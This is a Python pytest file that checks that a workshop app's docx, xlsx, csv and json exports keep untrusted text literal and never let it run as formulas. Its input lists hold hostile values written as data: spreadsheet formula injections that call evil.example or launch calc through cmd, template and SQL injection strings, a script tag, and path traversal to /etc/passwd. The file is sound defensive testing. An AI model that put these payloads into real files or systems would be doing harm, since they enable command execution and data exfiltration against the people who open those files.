"""What somebody typed, or what a repaired database holds, never breaks a file or acts in it (T25-T27, list V)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from docx.oxml import parse_xml
from openpyxl import load_workbook

from tests.exports.evenings import full_evening, poisoned
from tests.exports.readers import (
    docx_text,
    opened_by_libreoffice,
    read_csv_zip,
    read_json,
    read_xlsx,
    xml_parts,
)
from workshop.exports.cells import file_text
from workshop.exports.shelf import make_file

BREAKING = (
    "\x00", "a\x00b", "a\x1bc", "a\x0bb\x7fc\x85d", "a\ufffeb\uffffc", "lone \ud800 surrogate", "a\u202eb\u2066c",
    "Z" + "\u0338\u0321\u031b" * 50, "e\u0301", "ﬁets ²", "x" * 300,
    "a" * 40_000, "😀" * 20_000, "مرحبا بك", "a\r\nb\u2028c",
)  # fmt: skip
ACTING = (
    "=1+1", "+31 zegt", "-2 graden", "@school", "\t=1+1", "＝1+1", "＋1", "－1", "＠x", "；1",
    '=HYPERLINK("http://evil.example","x")', "=cmd|'/C calc'!A0", '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example";"//a")', '=DDE("a";"b";"c")', " =1+1", "\n=1+1", "#N/A", "http://evil.example",
    "mailto:a@b.nl", "{{7*7}} {% for x in y %}", "{{''.__class__}}", "${7*7} #{7*7} %s %n %x", r"$\frac{1}{0}$",
    r"$$\def\x{\x\x}\x$$", "<b>x & y</b>", "<script>window.PWN=1</script>", "&lt;b&gt; &nbsp;", "]]><w:p/>",
    '<para><font color="[[x]]">', "![x](http://127.0.0.1:8699/p.png)", "../../etc/passwd", r"\\evil\share",
    '"; DROP TABLE item; --', "a;b;c", 'a"b', "_x0041_", "'quoted", "1,5", "007",
)  # fmt: skip
ALL = (*BREAKING, *ACTING)
SNAPSHOT = poisoned(ALL)


@pytest.fixture(scope="module")
def files() -> dict[str, bytes]:
    return {kind: make_file(kind, SNAPSHOT).data for kind in ("docx", "xlsx", "csv", "json")}


def bad_ids() -> dict[str, str]:
    return {item.id: item.text for item in SNAPSHOT.items if item.id.startswith("bad")}


def test_json_holds_every_text_as_it_can_be_held(files: dict[str, bytes]) -> None:
    found = {item["id"]: item["text"] for item in read_json(files["json"])["items"]}

    assert found == {item.id: file_text(item.text) for item in SNAPSHOT.items}


def test_the_workbook_holds_every_text_and_every_other_item(files: dict[str, bytes]) -> None:
    header, *rows = read_xlsx(files["xlsx"])["Bevindingen"]
    found = {row[0]: row[1] for row in rows}

    assert header[:2] == ["Item-id", "Tekst"]
    expected = {item.id: file_text(item.text) for item in SNAPSHOT.items if item.kind == "finding"}
    assert found.keys() == expected.keys()
    for item_id, text in expected.items():
        if len(text.encode("utf-16-le")) // 2 > 32_767:
            assert found[item_id].endswith("[ingekort: deze tekst past niet in één cel]")
        else:
            assert str(found[item_id]).replace("_x005F_", "_") == text


def test_no_cell_of_the_workbook_is_a_formula_a_link_or_an_error(files: dict[str, bytes]) -> None:
    parts = xml_parts(files["xlsx"])
    sheets = "".join(text for name, text in parts.items() if "worksheets/" in name)

    assert not re.search(r"<f[ >]", sheets)
    assert "<hyperlink" not in sheets and 't="e"' not in sheets
    assert not [name for name in parts if "externalLink" in name or "connections" in name or "drawing" in name]
    assert all('TargetMode="External"' not in text for text in parts.values())


def test_no_csv_field_starts_as_a_formula(files: dict[str, bytes]) -> None:
    tables = read_csv_zip(files["csv"])

    number = re.compile(r"-?\d+(,\d+)?([eE]-?\d+)?")
    for rows in tables.values():
        for field in (field for row in rows for field in row):
            assert not re.match(r"\s*[=+\-@＝＋－＠；]", field) or number.fullmatch(field), field[:40]
    texts = {row[0]: row[1] for row in tables["finding"][1:]}
    assert texts.keys() >= bad_ids().keys()
    assert texts[next(i for i, text in bad_ids().items() if text == "＝1+1")] == "'＝1+1"


def test_the_report_holds_every_text_literally(files: dict[str, bytes]) -> None:
    text = docx_text(files["docx"])

    for wanted in bad_ids().values():
        assert file_text(wanted)[:2_000] in text
    for part in xml_parts(files["docx"]).values():
        parse_xml(part.encode())


def test_good_items_stand_unharmed_beside_poisoned_ones(files: dict[str, bytes]) -> None:
    good = {item.id: item.text for item in full_evening().items}

    assert good.items() <= {item["id"]: item["text"] for item in read_json(files["json"])["items"]}.items()
    report = docx_text(files["docx"])
    assert all(text in report for text in good.values())


def test_libreoffice_opens_the_poisoned_report(files: dict[str, bytes], tmp_path: Path) -> None:
    assert opened_by_libreoffice(files["docx"], "docx", "pdf", tmp_path).startswith(b"%PDF")


def test_libreoffice_computes_nothing_in_the_poisoned_workbook(tmp_path: Path) -> None:
    source = tmp_path / "whole.xlsx"
    source.write_bytes(make_file("xlsx", poisoned(ACTING)).data)
    book = load_workbook(source)
    for title in [name for name in book.sheetnames if name != "Bevindingen"]:
        book.remove(book[title])  # a CSV holds the first sheet only
    book.save(source)

    text = opened_by_libreoffice(source.read_bytes(), "xlsx", "csv:Text - txt - csv (StarCalc):59,34,76", tmp_path)

    shown = text.decode("utf-8")
    for wanted in ('=HYPERLINK(""http://evil.example"",""x"")', "=cmd|'/C calc'!A0", "=1+1", "＝1+1", "#N/A"):
        assert wanted in shown
